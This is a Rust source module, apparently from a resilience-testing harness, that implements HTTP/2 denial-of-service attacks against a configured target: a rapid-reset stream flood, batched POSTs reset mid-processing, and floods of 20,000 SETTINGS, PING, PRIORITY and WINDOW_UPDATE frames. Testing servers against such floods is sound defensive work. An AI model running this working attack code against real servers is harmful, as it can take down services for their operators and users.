//! Frames of HTTP/2 without end.

use super::Attacker;
use crate::Failure;
use crate::frames::{self, frame, post};
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

/// Streams that are reset as soon as they are opened.
pub(super) async fn rapid_reset(attacker: Attacker) -> Result<(), Failure> {
    let mut bytes = frames::preface();
    for number in 0..2000 {
        bytes.extend(post(2 * number + 1));
        bytes.extend(frame(
            frames::RST_STREAM,
            0,
            2 * number + 1,
            &8_u32.to_be_bytes(),
        ));
    }
    attacker.flood(bytes).await
}

/// Whole POSTs, reset while the application works on them.
pub(super) async fn reset_posts(attacker: Attacker) -> Result<(), Failure> {
    let mut stream = attacker
        .client(&attacker.target.trusted_http2)
        .tls()
        .await?;
    stream.write_all(&frames::preface()).await?;
    for batch in 0..20 {
        let streams = (90 * batch..90 * (batch + 1)).map(|number| 2 * number + 1);
        let mut bytes = Vec::new();
        for id in streams.clone() {
            bytes.extend(post(id));
            bytes.extend(frame(frames::DATA, 1, id, b"{\"alert\":\"reset\"}"));
        }
        stream.write_all(&bytes).await?;
        stream.flush().await?;
        sleep(Duration::from_millis(5)).await;
        let resets: Vec<u8> = streams
            .flat_map(|id| frame(frames::RST_STREAM, 0, id, &8_u32.to_be_bytes()))
            .collect();
        stream.write_all(&resets).await?;
        stream.flush().await?;
    }
    Ok(())
}

pub(super) async fn settings_flood(attacker: Attacker) -> Result<(), Failure> {
    let flood = frame(frames::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(20_000);
    attacker.flood([frames::preface(), flood].concat()).await
}

pub(super) async fn ping_flood(attacker: Attacker) -> Result<(), Failure> {
    attacker
        .flood(
            [
                frames::preface(),
                frame(frames::PING, 0, 0, &[0; 8]).repeat(20_000),
            ]
            .concat(),
        )
        .await
}

pub(super) async fn priority_flood(attacker: Attacker) -> Result<(), Failure> {
    attacker
        .flood(
            [
                frames::preface(),
                frame(frames::PRIORITY, 0, 3, &[0, 0, 0, 0, 1]).repeat(20_000),
            ]
            .concat(),
        )
        .await
}

pub(super) async fn window_flood(attacker: Attacker) -> Result<(), Failure> {
    let flood = frame(frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(20_000);
    attacker.flood([frames::preface(), flood].concat()).await
}
